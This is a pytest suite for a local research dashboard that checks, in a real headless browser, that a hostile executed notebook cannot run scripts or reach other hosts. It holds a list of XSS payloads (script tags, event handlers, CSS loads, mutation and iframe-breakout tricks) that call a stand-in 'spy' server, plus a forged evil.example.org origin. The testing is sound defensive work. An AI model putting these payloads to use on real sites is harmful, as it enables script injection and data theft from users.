"""The dashboard in a real browser: every page works, nothing leaves the machine, a hostile notebook does nothing."""

from __future__ import annotations

import http.server
import json
import re
import shutil
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.error import HTTPError
from urllib.parse import urlsplit
from urllib.request import Request, urlopen

import pytest

import researchkit
from researchkit.dashboard import frame
from researchkit.dashboard.app import TITLES
from researchkit.dashboard.sample import fill, keep, notebook
from researchkit.data.encode import encode_bars
from researchkit.data.vendor import BORDER, arch_indices, split_at

pytestmark = pytest.mark.xdist_group("browser")
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-sync"]
SERVE = "import sys, researchkit; from researchkit.dashboard.app import serve; serve(researchkit.open(sys.argv[1]))"


# --- what a hostile author would write ---------------------------------------------------------------


def attempts(spy: str) -> list[str]:
    """Ways to run something, to ask another machine for something, or to change the page."""
    return [
        f"<script>top.stolen = parent.stolen = 1; fetch('{spy}/script')</script>",
        f"<script src='{spy}/script.js'></script>",
        f"<img src='{spy}/img.png'>",
        f"<img src=x onerror=\"parent.stolen = 2; fetch('{spy}/onerror')\">",
        f"<img srcset='{spy}/srcset.png 2x'>",
        f"<picture><source srcset='{spy}/source.png'><img src=x></picture>",
        f"<div style=\"background: url('{spy}/css.png')\">styled</div>",
        f"<div style='background: u\\72l({spy}/escaped.png)'>styled</div>",
        f"<style>@import url('{spy}/import.css'); body {{ background: url('{spy}/sheet.png') }}</style>",
        f"<link rel='stylesheet' href='{spy}/link.css'><link rel='prefetch' href='{spy}/prefetch'>",
        f"<svg onload=\"parent.stolen = 3\"><script>parent.stolen = 4</script><image href='{spy}/svg.png'/></svg>",
        f"<iframe src='{spy}/iframe'></iframe><iframe srcdoc='<script>top.stolen = 5</script>'></iframe>",
        f"<object data='{spy}/object'></object><embed src='{spy}/embed'>",
        f"<form action='{spy}/form' method='post'><button id='send'>send</button></form>",
        f"<form id='f' action='{spy}/auto' target='_top'></form><script>f.submit()</script>",
        f"<meta http-equiv='refresh' content='0; url={spy}/refresh'>",
        f"<base href='{spy}/base/'><img src='relative.png'>",
        f"<a href='{spy}/link' target='_top' ping='{spy}/ping'>a link that leads out</a>",
        "<a href='javascript:top.stolen=6'>a link that runs</a>",
        f"<video src='{spy}/video' autoplay></video><audio src='{spy}/audio' autoplay></audio>",
        f"<body onload=\"parent.stolen = 7\" background='{spy}/body.png'>",
        f"<details open ontoggle=\"parent.stolen = 8; fetch('{spy}/toggle')\"><summary>x</summary></details>",
        f"<table background='{spy}/table.png'><tr><td>cell</td></tr></table>",
        f"<math><mtext><table><mglyph><style><!--</style><img src='{spy}/mutation.png' onerror='top.stolen=9'>",
        f"</iframe><script>top.stolen = 10; fetch('{spy}/breakout')</script><img src='{spy}/out.png'>",
        f'"></iframe><img src=\'{spy}/quoted.png\' onerror="top.stolen=11">',
    ]


def hostile(spy: str) -> bytes:
    """An executed notebook that tries everything, in prose, in code and in every kind of output."""
    html = "\n".join(attempts(spy))
    data = [{"text/html": [a]} for a in attempts(spy)]
    data += [{"text/html": html}, {"text/markdown": html}, {"text/latex": html}, {"text/plain": html}]
    data += [{"application/javascript": f"top.stolen = 12; fetch('{spy}/js')", "text/plain": "a script"}]
    data += [{"image/svg+xml": f"<svg onload='top.stolen=13'><image href='{spy}/output.svg'/></svg>"}]
    outputs = [{"output_type": "display_data", "metadata": {}, "data": d} for d in data]
    outputs += [{"output_type": "stream", "name": "stderr", "text": html}]
    outputs += [{"output_type": "error", "ename": html, "evalue": html, "traceback": [html]}]
    body = json.loads(notebook("Harmless beginning", outputs=outputs))
    body["cells"].append({"cell_type": "markdown", "id": "three", "metadata": {}, "source": html})
    body["cells"].append(
        {"cell_type": "raw", "id": "four", "metadata": {"format": "text/html"}, "source": html}
    )
    body["cells"][1]["source"] = html
    body["metadata"] = {"title": "</title><script>top.stolen = 14</script>"}
    return json.dumps(body).encode()


@dataclass
class Spy:
    """A server that notes whoever asks it for anything, and can show one page of its own."""

    url: str = ""
    heard: list[str] = field(default_factory=list)
    shows: str = ""  # the body of /page


def listening(noted: Spy) -> http.server.ThreadingHTTPServer:
    class Listen(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            own = self.path == "/page"
            if not own and self.path != "/favicon.ico":  # which the browser asks for by itself
                noted.heard.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(
                f"<!DOCTYPE html><html><body>{noted.shows}</body></html>".encode() if own else b""
            )

        do_POST = do_GET  # noqa: N815

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listen)
    noted.url = f"http://127.0.0.1:{server.server_port}"
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


@pytest.fixture
def spy() -> Iterator[Spy]:
    """The stranger."""
    noted = Spy()
    server = listening(noted)
    yield noted
    server.shutdown()
    server.server_close()


@pytest.fixture
def stage() -> Iterator[Spy]:
    """A page of our own making, served by somebody else than the stranger."""
    noted = Spy()
    server = listening(noted)
    yield noted
    server.shutdown()
    server.server_close()


# --- the workspace, the server, the browser ------------------------------------------------------------


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> Any:
    ws = researchkit.open(tmp_path_factory.mktemp("dashboard") / "ws")
    fill(ws, mlflow=True)
    bars, _ = split_at(arch_indices(), BORDER)
    ws.lake.ingest(ws.raw.put(encode_bars(bars, dataset="DEMO"), name="indices.dbn.zst", key="market").sha256)
    ws.catalog.describe("DEMO/ohlcv-1d", symbols={"COMP": "<b>NASDAQ"})
    return ws


@pytest.fixture(scope="module")
def address(workspace: Any) -> Iterator[str]:
    """`serve`, as the command line calls it, in a process of its own."""
    started = subprocess.Popen(
        [sys.executable, "-c", SERVE, str(workspace.root)], stdout=subprocess.PIPE, text=True
    )
    assert started.stdout is not None
    said = started.stdout.readline()
    found = re.search(r"http://127\.0\.0\.1:\d+/\S+", said)
    assert found, said
    yield found[0]
    started.terminate()
    started.wait(timeout=30)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    chromium = shutil.which("chromium")
    assert chromium, "chromium is not installed: make system"
    with sync_playwright() as play:
        running = play.chromium.launch(executable_path=chromium, args=ARGS)
        yield running
        running.close()


@dataclass
class Watched:
    """A browser page and all that it did."""

    page: Any
    requests: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    navigations: list[str] = field(default_factory=list)

    def strangers(self, host: str) -> list[str]:
        """Requests to anybody but `host`."""
        own = (f"http://{host}/", f"ws://{host}/", "data:", f"blob:http://{host}/", "about:")
        return [url for url in self.requests if not url.startswith(own)]


@pytest.fixture
def watch(browser: Any) -> Iterator[Callable[[], Watched]]:
    contexts = []

    def open_page() -> Watched:
        contexts.append(browser.new_context(viewport={"width": 1440, "height": 1000}))
        seen = Watched(contexts[-1].new_page())
        contexts[-1].on("request", lambda r: seen.requests.append(r.url))
        contexts[-1].on("page", lambda p: seen.navigations.append(f"window {p.url}"))
        seen.page.on("websocket", lambda w: seen.requests.append(w.url))
        seen.page.on("console", lambda m: seen.errors.append(m.text) if m.type == "error" else None)
        seen.page.on("pageerror", lambda e: seen.errors.append(str(e)))
        seen.page.on("framenavigated", lambda f: seen.navigations.append(f.url))
        return seen

    yield open_page
    for context in contexts:
        context.close()


def see(page: Any, words: str) -> None:
    """Wait until some words can be read."""
    page.get_by_text(words).first.wait_for()


def turn_to(page: Any, title: str) -> None:
    page.locator(".bk-tab", has_text=title).first.click()


# --- every page ------------------------------------------------------------------------------------------


def test_every_page_is_shown_without_an_error_and_without_the_network(
    address: str, watch: Callable[[], Watched]
) -> None:
    seen = watch()
    page = seen.page
    page.goto(address)
    see(page, "tier: embedded")
    see(page, "educational")

    see(page, "4 challengers · 1 undecided · 3 refused")
    page.locator("details.case summary").first.click()
    for words in ("Measured on the sealed sessions", "tail scenario veto", "Screens on history"):
        assert page.get_by_text(words).first.is_visible()

    turn_to(page, "Performance")
    see(page, "return a year")
    page.locator("canvas").first.wait_for()
    assert page.get_by_text("after costs of").count() == 2  # baseline and the registered
    page.get_by_label("leverage").check()
    page.get_by_role("button", name="at the baseline's volatility").click()
    page.get_by_text("after costs of").nth(2).wait_for()

    turn_to(page, "Calibration")
    see(page, "720 out-of-fold forecasts")
    page.get_by_label("fold", exact=True).select_option("1")
    page.wait_for_timeout(1500)
    assert not page.get_by_text("This cannot be shown").count()

    turn_to(page, "Runs")
    page.get_by_text("one look at the sealed year").first.click()
    see(page, "Artifacts, stored once in the archive")
    assert page.get_by_text("FINISHED").first.is_visible(), "MLflow's copy is not shown"
    page.get_by_role("button", name="open the executed notebook").click()
    see(page, "as recorded")
    page.frame_locator("iframe").get_by_role("heading", name="Campaign").wait_for()

    turn_to(page, "Catalog")
    see(page, "bytes a row")
    page.get_by_label("find a table").fill("nasdaq")
    see(page, "Made of 1 vendor file")
    assert page.get_by_text("COMP (<b>NASDAQ), SPX").first.is_visible()
    page.get_by_label("find a table").fill("cheese")
    page.get_by_text("bytes a row").first.wait_for(state="hidden")

    turn_to(page, "Ledger")
    page.locator(".tabulator-cell", has_text="seal opened").first.click()
    see(page, "hash of the entry before")

    assert set(TITLES) == set(page.locator(".bk-tab").all_inner_texts())
    assert not seen.errors
    assert not seen.strangers(urlsplit(address).netloc)
    assert any(url.startswith("ws://") for url in seen.requests)


AXES = """() => [...Bokeh.documents[0]._all_models.values()]
    .filter(m => m.type === 'Figure' && m.title && m.title.text)
    .map(m => ({title: m.title.text, x: m.x_range.id, y: m.y_range.id, start: m.x_range.start}))"""


def test_the_time_axes_are_one_and_begin_where_the_sessions_do(
    address: str, watch: Callable[[], Watched]
) -> None:
    page = watch().page
    page.goto(address)
    turn_to(page, "Performance")
    see(page, "return a year")
    page.wait_for_timeout(1000)
    figures = page.evaluate(AXES)
    assert len(figures) == 4, figures
    assert len({f["x"] for f in figures}) == 1, "the plots are not linked"
    assert len({f["y"] for f in figures}) == 4, "plots of different units share an axis"
    assert 2010 < 1970 + figures[0]["start"] / 1000 / 86_400 / 365.25 < 2012


# --- the hostile notebook -------------------------------------------------------------------------------


def test_a_hostile_notebook_does_nothing(
    workspace: Any, address: str, watch: Callable[[], Watched], spy: Spy
) -> None:
    runs, name = workspace.runs, "<img src=x onerror='top.stolen=15'> a hostile title"
    with runs.start(name, job="hostile", parameters={"note": "<script>top.stolen=16</script>"}) as run:
        keep(run, hostile(spy.url), runs=runs)
    seen = watch()
    page = seen.page
    page.goto(address)
    turn_to(page, "Runs")
    page.get_by_text("a hostile title").first.click()
    page.get_by_role("button", name="open the executed notebook").click()
    inside = page.frame_locator("iframe")
    inside.get_by_role("heading", name="Harmless beginning").wait_for()
    for words in ("a link that leads out", "a link that runs"):
        for link in inside.locator("a", has_text=words).all():
            link.click(no_wait_after=True)
    for button in inside.locator("button").all():
        button.click(no_wait_after=True)
    page.wait_for_timeout(1500)

    assert page.evaluate("[window.stolen, document.title]") == [None, f"researchkit · {workspace.root.name}"]
    assert spy.heard == []
    assert not seen.strangers(urlsplit(address).netloc)
    assert {u for u in seen.navigations if not u.startswith("about:")} == {page.url} == {address}
    assert not seen.errors
    assert page.locator("iframe").get_attribute("sandbox") == ""


def look_at(seen: Watched, stage: Spy, body: str) -> None:
    """Show a page of our own making, and give it time to misbehave."""
    stage.shows = body
    seen.page.goto(f"{stage.url}/page", wait_until="commit")
    seen.page.wait_for_timeout(1500)


def test_the_attempts_succeed_where_no_wall_stands(
    watch: Callable[[], Watched], spy: Spy, stage: Spy
) -> None:
    """Without this, a test in which nothing happens would prove nothing."""
    harmful = [a for a in attempts(spy.url) if "refresh" not in a and "submit" not in a and "<base" not in a]
    seen = watch()
    look_at(seen, stage, "\n".join(harmful))
    assert seen.page.evaluate("window.stolen") is not None
    assert {"/script", "/script.js", "/img.png", "/onerror", "/css.png", "/iframe"} <= set(spy.heard)


def test_each_attempt_that_navigates_succeeds_where_no_wall_stands(
    watch: Callable[[], Watched], spy: Spy, stage: Spy
) -> None:
    for number, words in enumerate(("refresh", "submit"), 1):
        look_at(watch(), stage, next(a for a in attempts(spy.url) if words in a))
        assert len([h for h in spy.heard if h.startswith(("/refresh", "/auto"))]) == number


def test_cleaning_alone_holds(watch: Callable[[], Watched], spy: Spy, stage: Spy) -> None:
    seen = watch()
    look_at(seen, stage, frame.clean("\n".join(attempts(spy.url))))
    assert seen.page.evaluate("window.stolen") is None
    assert [*spy.heard, *stage.heard] == []


def test_the_frame_alone_holds(
    watch: Callable[[], Watched], spy: Spy, stage: Spy, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(frame, "clean", lambda html: html)
    seen = watch()
    look_at(seen, stage, "".join(frame.framed(a, title="x") for a in attempts(spy.url)))
    assert seen.page.evaluate("window.stolen") is None
    assert [*spy.heard, *stage.heard] == []
    assert seen.page.url == f"{stage.url}/page"


# --- who may come in ------------------------------------------------------------------------------------


def status(url: str, **headers: str) -> int:
    try:
        with urlopen(Request(url, headers=headers)) as answer:
            return int(answer.status)
    except HTTPError as e:
        return e.code


def test_nothing_is_found_without_the_secret_word(address: str) -> None:
    host = urlsplit(address).netloc
    assert status(address) == 200
    assert [status(f"http://{host}{path}") for path in ("/", "/app", "/ws", "/app/ws")] == [404] * 4


def test_another_origin_is_refused_the_connection(address: str) -> None:
    upgrade = {"Connection": "Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Version": "13"}
    upgrade["Sec-WebSocket-Key"] = "dGhlIHNhbXBsZSBub25jZQ=="
    host = urlsplit(address).netloc
    answers = {}
    for origin in (
        f"http://{host}",
        "http://evil.example.org",
        f"http://evil.example.org:{host.split(':')[1]}",
    ):
        lines = [f"GET {urlsplit(address).path}/ws HTTP/1.1", f"Host: {host}", f"Origin: {origin}"]
        lines += [f"{k}: {v}" for k, v in upgrade.items()]
        with socket.create_connection(tuple(host.split(":")), timeout=10) as line:
            line.sendall("\r\n".join([*lines, "", ""]).encode())
            answers[origin] = line.recv(4096).split(b"\r\n")[0].decode()
    assert [("403" in a) for a in answers.values()] == [False, True, True], answers


def test_only_this_machine_is_answered(address: str) -> None:
    port = int(urlsplit(address).port or 0)
    with pytest.raises(OSError, match="refused"):
        socket.create_connection(("127.0.0.2", port), timeout=5)  # reached by whoever listens everywhere


def test_the_browser_is_told_to_load_nothing_from_elsewhere(address: str) -> None:
    with urlopen(address) as answer:
        headers = answer.headers
    assert headers["Content-Security-Policy"].startswith("default-src 'none'")
    assert "connect-src 'self' ws://127.0.0.1" in headers["Content-Security-Policy"]
    assert headers["X-Frame-Options"] == "DENY"
    assert headers["Referrer-Policy"] == "no-referrer"


def test_a_port_that_is_taken_is_named(workspace: Any, address: str) -> None:
    from researchkit.dashboard.app import start

    with pytest.raises(ValueError, match=r"port \d+ cannot be had .*; port 0 takes one that is free"):
        start(workspace, port=int(urlsplit(address).port or 0))


def test_an_empty_workspace_says_what_would_fill_it(tmp_path: Path) -> None:
    from researchkit.dashboard import pages, records

    ws = researchkit.open(tmp_path / "empty")
    said = [page(ws).object for page in (pages.verdict_page, pages.performance_page, pages.calibration_page)]
    assert all("yet" in words for words in said)
    records.runs_page(ws, lambda trial: None)
    records.ledger_page(ws)
